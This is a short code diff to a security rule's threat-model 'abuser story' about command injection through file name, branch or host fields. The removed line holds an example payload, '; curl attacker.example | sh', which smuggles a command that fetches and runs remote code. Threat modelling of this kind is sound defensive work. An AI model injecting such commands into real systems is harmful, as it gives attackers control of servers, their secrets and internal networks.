@@ -197,8 +197,8 @@ export default defineRule({
     },
     abuserStory: {
       actor: 'anonymous internet user',
-      goal: 'put `; curl attacker.example | sh` into a file name, branch or host field that the server pastes into a shell command',
-      harm: 'I run my own commands on the server, read its secrets and files, and use it to reach the internal network',
+      goal: 'take over {asset} by putting shell commands into a file name, branch or host field that the server pastes into a command line',
+      harm: 'I run my own commands on {asset}, read its secrets and files, and use it to reach the internal network',
       stride: ['T', 'I', 'E'],
       asset: 'the server host, its credentials and the data it can reach',
       controls: [
